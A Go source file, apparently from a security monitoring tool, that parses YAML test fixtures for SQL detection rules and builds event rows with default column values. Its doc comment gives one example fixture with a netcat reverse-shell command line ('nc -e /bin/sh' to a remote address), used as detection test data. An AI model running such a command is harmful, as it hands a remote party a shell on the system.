@@ -1,0 +1,306 @@
+package rules
+
+import (
+	"bytes"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"io/fs"
+	"path"
+	"strconv"
+	"strings"
+	"time"
+
+	"go.yaml.in/yaml/v3"
+
+	"daemoneye/bus/event"
+)
+
+// Fixtures stand beside a rule, NAME.test.yaml beside NAME.sql:
+//
+//	cases:
+//	  - name: netcat runs a shell
+//	    events:                      # rows: column → value
+//	      - command_line: nc -e /bin/sh 10.0.0.1 4444
+//	        executable_path: /usr/bin/nc.traditional
+//	    match: 1                     # rows that the rule returns
+//	  - name: netcat as a port scanner
+//	    file: scan.jsonl             # rows as JSON Lines, beside the rule
+//	    must_not_match: true
+//
+// A row is of the rule's table unless the case names another with table. The
+// columns that are never NULL have a value when the row gives none: times
+// count up from 2026-01-01 by a second a row, entity_id and pid differ from
+// row to row, event is exec, accessible is true, kernel_thread is false.
+const fixtureSuffix = ".test.yaml"
+
+// Limits of fixtures.
+const (
+	maxFixtureBytes = 1 << 20  // of a .test.yaml file
+	maxEventBytes   = 16 << 20 // of a JSON Lines file
+	maxCases        = 1000
+	maxCaseRows     = 50_000
+)
+
+type fixtureFile struct {
+	Cases []fixtureCase `yaml:"cases"`
+}
+
+type fixtureCase struct {
+	Name         string                 `yaml:"name"`
+	Table        string                 `yaml:"table"`
+	Events       []map[string]yaml.Node `yaml:"events"`
+	File         string                 `yaml:"file"`
+	Match        *int                   `yaml:"match"`
+	MustNotMatch bool                   `yaml:"must_not_match"`
+}
+
+// parseFixtures reads a .test.yaml file strictly: unknown keys are errors.
+func parseFixtures(data []byte) ([]fixtureCase, error) {
+	d := yaml.NewDecoder(bytes.NewReader(data))
+	d.KnownFields(true)
+	var f fixtureFile
+	if err := d.Decode(&f); err != nil {
+		if errors.Is(err, io.EOF) {
+			return nil, errors.New("the file is empty")
+		}
+		return nil, errors.New(strings.TrimPrefix(strings.ReplaceAll(err.Error(), "\n ", ""), "yaml: "))
+	}
+	if err := d.Decode(new(any)); !errors.Is(err, io.EOF) {
+		return nil, errors.New("more than one document")
+	}
+	if len(f.Cases) == 0 {
+		return nil, errors.New("no cases")
+	}
+	if len(f.Cases) > maxCases {
+		return nil, fmt.Errorf("%d cases, the limit is %d", len(f.Cases), maxCases)
+	}
+	for i := range f.Cases {
+		if err := f.Cases[i].check(); err != nil {
+			return nil, fmt.Errorf("case %d (%s): %w", i+1, cmpOr(f.Cases[i].Name, "without a name"), err)
+		}
+	}
+	return f.Cases, nil
+}
+
+func (c *fixtureCase) check() error {
+	switch {
+	case c.Name == "":
+		return errors.New("give it a name")
+	case (len(c.Events) == 0) == (c.File == ""):
+		return errors.New("give either events or file")
+	case (c.Match == nil) == !c.MustNotMatch:
+		return errors.New("give either match: COUNT or must_not_match: true")
+	case c.Match != nil && *c.Match < 0:
+		return fmt.Errorf("match: %d is negative", *c.Match)
+	case c.Table != "" && event.Lookup(c.Table) == nil:
+		return fmt.Errorf("unknown table %q", c.Table)
+	}
+	return nil
+}
+
+// want returns how many rows the rule must return.
+func (c *fixtureCase) want() int {
+	if c.Match == nil {
+		return 0
+	}
+	return *c.Match
+}
+
+// batches builds the case's rows, at most 1,000 in a batch.
+func (c *fixtureCase) batches(table string, fsys fs.FS, dir string) ([]*event.Batch, error) {
+	f := &rowFiller{builder: event.NewBuilder(event.Lookup(cmpOr(c.Table, table)))}
+	if c.File == "" {
+		for i, row := range c.Events {
+			values := make(map[string]any, len(row))
+			for column, node := range row {
+				var v any
+				if err := node.Decode(&v); err != nil {
+					return nil, fmt.Errorf("event %d, line %d: %w", i+1, node.Line, err)
+				}
+				values[column] = v
+			}
+			if err := f.add(values); err != nil {
+				return nil, fmt.Errorf("event %d: %w", i+1, err)
+			}
+		}
+		return f.finish(), nil
+	}
+	name := path.Join(dir, c.File)
+	if !fs.ValidPath(name) {
+		return nil, fmt.Errorf("file %q leads out of the rules", c.File)
+	}
+	data, err := readFile(fsys, name, maxEventBytes)
+	if err != nil {
+		return nil, fmt.Errorf("read events: %w", err)
+	}
+	d := json.NewDecoder(bytes.NewReader(data))
+	d.UseNumber()
+	for n := 1; ; n++ {
+		var values map[string]any
+		err := d.Decode(&values)
+		if errors.Is(err, io.EOF) {
+			return f.finish(), nil
+		}
+		if err == nil {
+			err = f.add(values)
+		}
+		if err != nil {
+			return nil, fmt.Errorf("%s, row %d: %w", c.File, n, err)
+		}
+	}
+}
+
+// rowFiller builds rows from values by column name.
+type rowFiller struct {
+	builder *event.Builder
+	done    []*event.Batch
+	rows    int
+}
+
+var fixtureStart = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
+
+func (f *rowFiller) add(values map[string]any) error {
+	if f.rows == maxCaseRows {
+		return fmt.Errorf("more than %d rows", maxCaseRows)
+	}
+	t := f.builder.Table()
+	for name := range values {
+		if t.Index(name) >= 0 {
+			continue
+		}
+		names := make([]string, len(t.Columns))
+		for i, c := range t.Columns {
+			names[i] = c.Name
+		}
+		if near := nearest(name, names); near != "" {
+			return fmt.Errorf("%s has no column %q (did you mean %q?)", t.Name, name, near)
+		}
+		return fmt.Errorf("%s has no column %q", t.Name, name)
+	}
+	for _, c := range t.Columns {
+		v, given := values[c.Name]
+		if !given && c.NotNull {
+			v = f.standard(c)
+		}
+		if v == nil {
+			if c.NotNull {
+				return fmt.Errorf("%s can not be NULL", c.Name)
+			}
+			continue
+		}
+		if err := setValue(f.builder.Column(c.Name), c.Type, v); err != nil {
+			return fmt.Errorf("%s: %w", c.Name, err)
+		}
+	}
+	f.builder.EndRow()
+	if f.rows++; f.builder.Rows() == 1000 {
+		f.done = append(f.done, f.builder.Batch())
+	}
+	return nil
+}
+
+func (f *rowFiller) finish() []*event.Batch {
+	if f.builder.Rows() > 0 {
+		f.done = append(f.done, f.builder.Batch())
+	}
+	return f.done
+}
+
+// standard returns the value of a column that is never NULL.
+func (f *rowFiller) standard(c event.Column) any {
+	switch c.Type {
+	case event.Bool:
+		return c.Name == "accessible"
+	case event.Timestamptz:
+		return fixtureStart.Add(time.Duration(f.rows) * time.Second)
+	case event.Int4, event.Int8:
+		if c.Name == "pid" {
+			return 1000 + f.rows
+		}
+		return 0
+	case event.Float8:
+		return 0.0
+	case event.TextArray:
+		return []any{}
+	case event.JSONB:
+		return map[string]any{}
+	}
+	switch c.Name {
+	case "event":
+		return "exec"
+	case "entity_id":
+		return fmt.Sprintf("fixture-%d", f.rows)
+	default:
+		return "fixture"
+	}
+}
+
+// setValue sets a column from what YAML or JSON gives.
+func setValue(c *event.ColumnBuilder, t event.Type, v any) error {
+	bad := fmt.Errorf("%v (%T) is not of type %s", v, v, t)
+	switch t {
+	case event.Bool:
+		b, ok := v.(bool)
+		if !ok {
+			return bad
+		}
+		c.Bool(b)
+	case event.Int4, event.Int8:
+		n, err := strconv.ParseInt(fmt.Sprint(v), 10, 64)
+		if _, isText := v.(string); isText || err != nil || t == event.Int4 && n != int64(int32(n)) {
+			return bad
+		}
+		c.Int(n)
+	case event.Float8:
+		x, err := strconv.ParseFloat(fmt.Sprint(v), 64)
+		if _, isText := v.(string); isText || err != nil {
+			return bad
+		}
+		c.Float(x)
+	case event.Timestamptz:
+		return setTime(c, v, bad)
+	case event.TextArray:
+		list, ok := v.([]any)
+		if !ok {
+			return bad
+		}
+		texts := make([]string, len(list))
+		for i, item := range list {
+			if texts[i], ok = item.(string); !ok {
+				return bad
+			}
+		}
+		c.Texts(texts)
+	case event.JSONB:
+		text, err := json.Marshal(v)
+		if err != nil {
+			return err
+		}
+		c.JSON(text)
+	default:
+		s, ok := v.(string)
+		if !ok {
+			return bad
+		}
+		c.Text(s)
+	}
+	return nil
+}
+
+func setTime(c *event.ColumnBuilder, v any, bad error) error {
+	at, ok := v.(time.Time)
+	if s, isText := v.(string); isText {
+		var err error
+		if at, err = time.Parse(time.RFC3339Nano, strings.Replace(s, " ", "T", 1)); err != nil {
+			return fmt.Errorf("%w (write it as 2026-01-02T15:04:05Z)", bad)
+		}
+		ok = true
+	}
+	if !ok {
+		return bad
+	}
+	c.Time(at)
+	return nil
+}
